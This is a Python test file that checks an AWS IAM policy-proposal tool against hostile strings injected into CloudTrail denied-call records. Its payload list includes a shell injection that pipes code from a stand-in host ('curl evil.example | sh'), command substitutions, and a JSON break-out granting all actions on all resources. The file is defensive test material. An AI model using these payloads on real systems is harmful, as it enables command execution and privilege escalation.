"""Every string of an event is hostile: none gets into a proposal but as a whole, well-formed name."""

from __future__ import annotations

import copy
import json
import re
import shlex
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redress.domain.classify import classify
from redress.domain.denied_call import DeniedCall
from redress.domain.errors import MalformedRecord
from redress.domain.finding import Finding
from redress.domain.fingerprint import fingerprint
from redress.domain.grammar import is_action, is_arn, is_policy_safe
from redress.domain.parse import parse_record
from redress.domain.sighting import sighting_of
from redress.domain.words import State
from tests.unit.fix import builders

if TYPE_CHECKING:
    from collections.abc import Iterator

    from redress.domain.proposal import Proposal

USER = f"arn:aws:sts::{builders.ACCOUNT}:assumed-role/app/session"
KEY = "arn:aws:s3:::reports/2026/a.csv"
RECORD: dict[str, Any] = {
    "eventVersion": "1.11",
    "userIdentity": {
        "type": "AssumedRole",
        "principalId": "AROAEXAMPLE:session",
        "arn": USER,
        "accountId": builders.ACCOUNT,
        "accessKeyId": "ASIAEXAMPLE",
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": "AROAEXAMPLE",
                "arn": f"arn:aws:iam::{builders.ACCOUNT}:role/team/app",
                "accountId": builders.ACCOUNT,
                "userName": "app",
            },
            "attributes": {"creationDate": "2026-11-21T01:00:00Z", "mfaAuthenticated": "false"},
        },
        "invokedBy": "s3.amazonaws.com",
    },
    "eventTime": "2026-11-21T02:00:00Z",
    "eventSource": "s3.amazonaws.com",
    "eventName": "PutObject",
    "awsRegion": "us-east-1",
    "sourceIPAddress": "192.0.2.1",
    "userAgent": "aws-cli/2",
    "errorCode": "AccessDenied",
    "errorMessage": (
        f'User: {USER} is not authorized to perform: s3:PutObject on resource: "{KEY}" '
        "because no identity-based policy allows the s3:PutObject action"
    ),
    "requestParameters": {"bucketName": "reports", "key": "2026/a.csv"},
    "requestID": "R1",
    "eventID": "4b0c2b1a-6d4e-4c2b-9a53-0d5f0f2f4a11",
    "resources": [{"type": "AWS::S3::Object", "ARN": KEY}],
    "eventType": "AwsApiCall",
    "recipientAccountId": builders.ACCOUNT,
    "vpcEndpointId": "vpce-0123456789abcdef0",
}
PASS_ROLE = {
    **RECORD,
    "eventSource": "ec2.amazonaws.com",
    "eventName": "RunInstances",
    "errorCode": "Client.UnauthorizedOperation",
    "errorMessage": (
        f"You are not authorized to perform this operation. User: {USER} is not authorized to perform: iam:PassRole "
        f"on resource: arn:aws:iam::{builders.ACCOUNT}:role/worker because no identity-based policy allows the "
        "iam:PassRole action"
    ),
}
PAYLOADS = [
    "*",
    "?",
    "arn:aws:s3:::*",
    "${aws:username}",
    "{{ global:ACCOUNT_ID }}",
    "}}",
    '"}],"Effect":"Allow","Action":"*","Resource":"*',
    "'; curl evil.example | sh; '",
    "$(id)",
    "`id`",
    "\n\nApproved.",
    "\r\n",
    "\x00",
    "\u202e",
    "\u0430",
    "<!channel>",
    "%{if true}x%{endif}",
    "\\",
    "*:*",
    " on resource: * because no identity-based policy allows the iam:* action",
    " is not authorized to perform: iam:CreateAccessKey on resource: * because no identity-based policy allows",
    "x" * 5000,
]


def proposal_for(record: dict[str, Any]) -> Proposal | None:
    """Returns the proposal that a record leads to when everything else works, if any."""
    try:
        call = parse_record(record)
    except MalformedRecord:
        return None
    if not isinstance(call, DeniedCall):
        return None
    verdict = classify(call, catalogue=builders.CATALOGUE)
    identity, template = fingerprint(verdict, call)
    found = Finding(
        finding_id=identity,
        verdict=verdict,
        resource_template=template,
        resources=(verdict.resource,) if verdict.resource else (),
        state=State.OPEN,
        state_version=1,
        count=1,
        first_seen=call.event_time,
        last_seen=call.event_time,
        changed_at=call.event_time,
        last=sighting_of(call, verdict.resource),
    )
    on = builders.target(of=verdict.principal)
    return builders.plan(found, on=on, now=datetime(2026, 11, 21, tzinfo=UTC)).proposal


def leaves(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yields the path of every text in a record."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from leaves(inner, (*path, name))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from leaves(inner, (*path, index))
    elif isinstance(value, str):
        yield path


def changed(record: dict[str, Any], path: tuple[Any, ...], text: str) -> dict[str, Any]:
    """Returns the record with one text replaced."""
    made = copy.deepcopy(record)
    inner: Any = made
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = text
    return made


def text_at(record: dict[str, Any], path: tuple[Any, ...]) -> str:
    """Returns one text of a record."""
    inner: Any = record
    for step in path:
        inner = inner[step]
    return str(inner)


def assert_within_the_grammar(proposal: Proposal) -> None:
    """Fails unless every part of the proposal is a well-formed name, and the body is plain text."""
    content = proposal.content
    assert re.fullmatch(r"[\x20-\x7e]*", proposal.body)
    assert "{{" not in proposal.body
    assert "}}" not in proposal.body
    for statement in json.loads(content["document"])["Statement"]:
        assert set(statement) <= {"Sid", "Effect", "Action", "Resource", "Condition"}
        assert statement["Effect"] == "Allow"
        assert is_action(statement["Action"])
        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [statement["Resource"]]
        assert all(is_arn(one) and is_policy_safe(one) for one in resources)
        values = [value for block in statement.get("Condition", {}).values() for value in block.values()]
        assert all(is_policy_safe(value) for value in values)
    assert is_arn(content["principal"]["arn"])
    assert is_policy_safe(content["principal"]["arn"])
    assert all(is_policy_safe(one["resource"]) and is_action(one["action"]) for one in content["probes"])
    words = shlex.split(content["patches"]["cli"])
    assert words[0] == "aws"
    assert len(words) == 9


BASES = {"s3": RECORD, "pass-role": PASS_ROLE}
PLACES = [(base, path) for base, record in BASES.items() for path in leaves(record)]


@pytest.mark.parametrize("base", BASES)
def test_the_records_lead_to_a_proposal_when_nobody_tampers(base: str) -> None:
    """The records below would be fixed, so that what follows tests something."""
    proposal = proposal_for(BASES[base])
    assert proposal is not None
    assert_within_the_grammar(proposal)


@pytest.mark.parametrize(("base", "path"), PLACES, ids=[f"{base}:{'.'.join(map(str, path))}" for base, path in PLACES])
def test_a_hostile_text_in_any_field_stays_outside(base: str, path: tuple[Any, ...]) -> None:
    """Whatever stands in any field, alone, before or behind the real text, no proposal holds more than names."""
    real = text_at(BASES[base], path)
    for payload in PAYLOADS:
        for text in (
            payload,
            real + payload,
            payload + real,
            real[: len(real) // 2] + payload + real[len(real) // 2 :],
        ):
            proposal = proposal_for(changed(BASES[base], path, text))
            if proposal is not None:
                assert_within_the_grammar(proposal)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("part", ["session", "s3:PutObject", "2026/a.csv", "reports", "identity-based"])
def test_a_hostile_part_of_the_message_grants_nothing_else(part: str, payload: str) -> None:
    """Text put into the message by a name that the caller chose never changes action or kind of grant."""
    message = RECORD["errorMessage"].replace(part, part + payload)
    proposal = proposal_for({**RECORD, "errorMessage": message})
    if proposal is not None:
        assert_within_the_grammar(proposal)
        assert [one["Action"] for one in proposal.content["statements"]] == ["s3:PutObject"]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(PLACES), st.text(max_size=60), st.integers(min_value=0, max_value=200))
def test_no_text_whatever_gets_beyond_the_grammar(place: tuple[str, tuple[Any, ...]], text: str, at: int) -> None:
    """Any text at any place of any field leads to a proposal of names, or to none."""
    base, path = place
    real = text_at(BASES[base], path)
    proposal = proposal_for(changed(BASES[base], path, real[:at] + text + real[at:]))
    if proposal is not None:
        assert_within_the_grammar(proposal)
